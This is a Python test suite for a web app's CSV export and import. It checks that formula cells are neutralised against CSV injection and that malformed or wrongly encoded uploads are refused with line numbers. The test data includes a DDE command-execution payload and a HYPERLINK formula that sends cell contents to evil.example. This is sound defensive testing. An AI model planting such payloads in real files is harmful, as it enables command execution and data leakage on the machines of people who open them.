"""CSV in and out: formula cells neutralised in every export (one writer), and a strict reader
that accepts UTF-8 or GB18030 only when the header proves the encoding, and names the line of
whatever it refuses."""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import func, select

from extensions import db
from models import Copy, Recipient, User
from tabular import csv_bytes, neutralise, restore
from tests.test_archive import export_over_http
from tests.test_inputs_text import chinese
from workflows.brief import State
from workflows.dispatch import apply_copy_transition

ROOT = Path(__file__).resolve().parent.parent

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "  =1+1", "'=already quoted"]


def raw_rows(data: bytes) -> list[list[str]]:
    """The cells exactly as a spreadsheet would read them (no restoring)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def assert_safe(cell: str) -> None:
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), repr(cell)
    assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@"), repr(cell)


# --- The writer -----------------------------------------------------------------------------------


def test_neutralise_follows_owasp_and_restore_undoes_it():
    for text in FORMULAS:
        safe = neutralise(text)
        assert safe.startswith("'"), text
        assert restore(safe) == text
    for text in ("王建国", "市委办公室", "1", "", "a=b", "苏州-上海", "100%"):
        assert neutralise(text) == text and restore(text) == text
    assert neutralise(-5) == -5 and neutralise(3) == 3  # numbers stay numbers
    written = raw_rows(csv_bytes([["x"], *([f] for f in FORMULAS)]))
    assert [row[0] for row in written[1:]] == ["'" + f for f in FORMULAS]


def test_every_csv_export_goes_through_the_one_writer():
    """Only tabular/ makes CSV (or spreadsheet) files: a new export cannot forget the rule."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/", "tabular/", "bench/", "migrations/")):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|openpyxl|xlsxwriter", text):
            offenders.append(relative)
    assert offenders == []


@pytest.fixture
def hostile_directory(app, series_id):
    with app.app_context():
        ids = []
        for name, title, organisation in (("=cmd|' /C calc'!A0", "", "中共苏州市委"),
                                          ("王建国", "+书记", "@SUM(A1)"),
                                          ("-2+3", "\t=1+1", "  =1+1")):
            recipient = Recipient(name=name, title=title, organisation=organisation, category="送", default_copies=1)
            db.session.add(recipient)
            db.session.flush()
            ids.append(recipient.id)
        db.session.commit()
        return ids


def test_the_recipients_export_neutralises_formulas_and_reads_back_exactly(app, hostile_directory, login_as):
    editor = login_as("editor")
    exported = editor.get("/recipients/export.csv")
    assert exported.status_code == 200
    rows = raw_rows(exported.data)
    for row in rows[1:]:
        for cell in row:
            assert_safe(cell)
    assert rows[1][1] == "'=cmd|' /C calc'!A0"
    # Imported back, every name is what it was (the apostrophes were the export's).
    response = editor.post("/recipients/import", {"file": (io.BytesIO(exported.data), "r.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 302, response.get_data(as_text=True)
    with app.app_context():
        people = db.session.scalars(select(Recipient).order_by(Recipient.id)).all()
        assert [(p.name, p.title, p.organisation) for p in people] == [
            ("=cmd|' /C calc'!A0", "", "中共苏州市委"), ("王建国", "+书记", "@SUM(A1)"), ("-2+3", "=1+1", "=1+1")]


def test_the_distribution_record_neutralises_formulas(app, people, hostile_directory, make_brief, login_as, clerk):
    brief_id = make_brief(State.PUBLISHED, special_report=["=1+1书记"], issue_date=date(2026, 1, 5))
    with app.app_context():
        copy = db.session.scalar(select(Copy).where(Copy.brief_id == brief_id).order_by(Copy.number))
        editor = db.session.scalar(select(User).where(User.username == "editor"))
        apply_copy_transition(db.session, copy, "dispatch", editor, route="courier",
                              person='=HYPERLINK("http://evil.example","x")')
        db.session.commit()
    response = login_as("clerk").get(f"/briefs/{brief_id}/copies/distribution.csv")
    assert response.status_code == 200
    rows = raw_rows(response.data)
    assert rows[1][2] == "'=1+1书记" and rows[1][10] == '\'=HYPERLINK("http://evil.example","x")'
    for row in rows[1:]:
        for cell in row:
            assert_safe(cell)


def test_the_bagit_catalogue_neutralises_formulas(app, make_brief, login_as):
    make_brief(State.ARCHIVED, title="=HYPERLINK(\"http://evil.example\",\"目录\")", author_line="+苏州太湖智库",
               issue_date=date(2026, 1, 5))
    response = export_over_http(app, login_as("archivist"), {"year": "2026"})  # a job, then its download
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as bundle:
        name = next(n for n in bundle.namelist() if n.endswith("data/catalogue.csv"))
        rows = raw_rows(bundle.read(name))
    assert rows[1][4] == "'=HYPERLINK(\"http://evil.example\",\"目录\")" and rows[1][3] == "'+苏州太湖智库"
    for row in rows[1:]:
        for cell in row:
            assert_safe(cell)


# --- The reader -----------------------------------------------------------------------------------


def post_csv(login_as, data: bytes):
    return login_as("editor").post("/recipients/import", {"file": (io.BytesIO(data), "名单.csv")},
                                   content_type="multipart/form-data")


def count(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count(Recipient.id)))


def problem_lines(page: str) -> list[int]:
    return [int(n) for n in re.findall(r'data-line="(\d+)"', page)]


ROWS = "姓名或单位,职务,所在单位,类别\r\n周八,主任,市研究室,送\r\n吴九,处长,市发展改革委,送\r\n"


@pytest.mark.parametrize("encoded", [ROWS.encode("utf-8"), ("\ufeff" + ROWS).encode("utf-8"),
                                     ROWS.encode("gb18030")], ids=["utf-8", "utf-8 with BOM", "gb18030"])
def test_utf8_and_gb18030_are_read(app, series_id, people, login_as, encoded):
    assert post_csv(login_as, encoded).status_code == 302
    with app.app_context():
        assert db.session.scalar(select(Recipient.organisation).where(Recipient.name == "周八")) == "市研究室"


ENCODINGS_REFUSED = ("The file is not in an encoding Canyue reads (%(encodings)s, with the column names as its "
                     "first line: %(expected)s). Save it from Excel as \"CSV UTF-8\"; Big5 and Shift-JIS files "
                     "are not read.")


@pytest.mark.parametrize("encoded", [
    "姓名或單位,職務,所在單位,類別\r\n周八,主任,市研究室,送\r\n".encode("big5"),
    "姓名,職務\r\n山田太郎,部長\r\n".encode("shift_jis"),
    # An ASCII header proves nothing about the rest: Big5 names under it would be mojibake.
    "name,title,organisation\r\n周八,主任,市研究室\r\n".encode("big5"),
], ids=["big5", "shift-jis", "big5 under an ascii header"])
def test_other_encodings_are_refused_saying_which_are_read(app, series_id, people, login_as, encoded):
    before = count(app)
    response = post_csv(login_as, encoded)
    assert response.status_code == 422
    page = html.unescape(response.get_data(as_text=True))
    assert chinese(app, ENCODINGS_REFUSED, encodings="UTF-8, GB18030",
                   expected="编号, 姓名或单位, 职务, 所在单位, 类别, 默认份数, 启用, 账号") in page
    assert problem_lines(page) == [1]
    assert count(app) == before


def test_an_unterminated_quote_is_refused_naming_its_line(app, series_id, people, login_as):
    body = '姓名或单位,职务,所在单位,类别\r\n周八,主任,市研究室,送\r\n"吴九,处长,市发展改革委,送\r\n郑十,科长,,送\r\n'
    response = post_csv(login_as, body.encode("utf-8"))
    assert response.status_code == 422
    assert problem_lines(response.get_data(as_text=True)) == [3]
    assert count(app) == 0


@pytest.mark.parametrize("bad_line", ["吴九,处长,市发展改革委,送,多余", "吴九,处长", '吴九,"处长"x,市发展改革委,送'])
def test_a_line_with_the_wrong_cells_is_refused_naming_it(app, series_id, people, login_as, bad_line):
    body = f"姓名或单位,职务,所在单位,类别\r\n周八,主任,市研究室,送\r\n{bad_line}\r\n"
    response = post_csv(login_as, body.encode("utf-8"))
    assert response.status_code == 422
    assert problem_lines(response.get_data(as_text=True)) == [3]
    assert count(app) == 0


def test_an_unknown_header_is_refused_naming_the_columns(app, series_id, people, login_as):
    response = post_csv(login_as, "姓名,电话\r\n周八,123\r\n".encode())
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert problem_lines(page) == [1] and "姓名或单位" in page
    assert count(app) == 0


@pytest.mark.parametrize("cell", ["周\x00八", "周\x07八", "周\x1b[31m八", "周\u0085八"])
def test_control_characters_in_a_csv_are_refused_naming_the_line(app, series_id, people, login_as, cell):
    """On PostgreSQL a NUL here was a 500; on both engines it is refused with its line."""
    body = f"姓名或单位,职务,所在单位,类别\r\n吴九,处长,,送\r\n{cell},主任,市研究室,送\r\n"
    response = post_csv(login_as, body.encode("utf-8"))
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert problem_lines(page) == [3] and "U+" in page
    assert count(app) == 0


def test_a_name_longer_than_its_column_is_refused(app, series_id, people, login_as):
    body = f"姓名或单位,职务\r\n{'名' * 65},主任\r\n"
    response = post_csv(login_as, body.encode("utf-8"))
    assert response.status_code == 422 and problem_lines(response.get_data(as_text=True)) == [2]
    assert count(app) == 0
